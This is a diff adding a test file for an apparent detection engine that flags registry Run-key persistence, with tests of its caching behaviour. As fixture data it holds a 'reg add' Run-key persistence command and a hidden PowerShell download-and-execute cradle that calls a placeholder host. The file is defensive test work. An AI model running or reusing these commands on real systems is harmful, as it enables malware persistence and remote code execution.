@@ -1,0 +1,70 @@
+// The caches the per-event stage keeps for inputs a log repeats: results must be those of the
+// uncached work, for equal strings only, and shared results must not leak between candidates.
+
+import { describe, expect, it } from 'vitest';
+import { StringCache } from '../../../shared/detect/collections';
+import { commandLineWrites } from '../../../shared/detect/command-line';
+import { detectCandidate } from '../../../shared/detect/engine';
+import { procStart, regSet } from './helpers';
+
+describe('StringCache', () => {
+  it('gives the value made for an equal string, and makes one for every other string', () => {
+    const c = new StringCache<string>(4);
+    let made = 0;
+    const make = (s: string) => {
+      made++;
+      return `v:${s}`;
+    };
+    // same length and the same sampled characters, different elsewhere: a slot collision that
+    // only equality can tell apart
+    const a = 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule0';
+    const b = a.replace('netsvcs', 'netsvcz');
+    expect(b.length).toBe(a.length);
+    expect(c.get(a, make)).toBe(`v:${a}`);
+    expect(c.get(b, make)).toBe(`v:${b}`);
+    expect(c.get(a, make)).toBe(`v:${a}`);
+    // a fresh string object with the same text is a hit
+    const fresh = ['C:\\Windows\\system32\\svchost.exe', ' -k netsvcs -p -s Schedule0'].join('');
+    const before = made;
+    expect(c.get(fresh, make)).toBe(`v:${a}`);
+    expect(made).toBe(before);
+    for (let i = 0; i < 200; i++) expect(c.get(`k${i}`, make)).toBe(`v:k${i}`);
+    expect(c.get('', make)).toBe('v:');
+  });
+});
+
+describe('repeated inputs in the per-event stage', () => {
+  it('reads a repeated command line the same way each time, and hands out frozen results', () => {
+    const cmd = 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d "C:\\Users\\Public\\u.exe" /f';
+    const first = commandLineWrites(cmd);
+    const again = commandLineWrites([cmd.slice(0, 10), cmd.slice(10)].join(''));
+    expect(first.length).toBe(1);
+    expect(again).toEqual(first);
+    expect(Object.isFrozen(first) && Object.isFrozen(first[0])).toBe(true);
+    expect(commandLineWrites('notepad.exe C:\\run\\notes.txt')).toEqual([]);
+  });
+
+  it('explains the same write on two hosts alike, each candidate owning its reasons', () => {
+    const target = 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
+    const data = 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x/a\')"';
+    const a = detectCandidate(regSet(target, data, { host: 'WS1', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }));
+    const b = detectCandidate(regSet(target, data, { host: 'WS2', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }));
+    if (!a || !b) throw new Error('no candidate');
+    expect(b.reasons).toEqual(a.reasons);
+    expect(b.attack).toEqual(a.attack);
+    expect([a.host, b.host]).toEqual(['WS1', 'WS2']);
+    expect(a.id).not.toBe(b.id);
+    a.reasons.push({ id: 'x', title: 'x', weight: 1, attack: [], explanation: 'x' });
+    a.reasons[0].attack.push('T0000');
+    a.attack.push('T0000');
+    const c = detectCandidate(regSet(target, data, { host: 'WS3', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }));
+    expect(c?.reasons).toEqual(b.reasons);
+    expect(c?.attack).toEqual(b.attack);
+    // another writer is another explanation
+    const d = detectCandidate(regSet(target, data, { host: 'WS1', image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe' }));
+    expect(d?.reasons.map((r) => r.id)).not.toEqual(b.reasons.map((r) => r.id));
+    // the command line seen on a process start is explained as one
+    const p = detectCandidate(procStart('C:\\Windows\\System32\\reg.exe', `reg add "${target.replace(/\\Updater$/, '')}" /v Updater /d "${data.replace(/"/g, '\\"')}" /f`));
+    expect(p?.basis).toBe('command-line');
+  });
+});
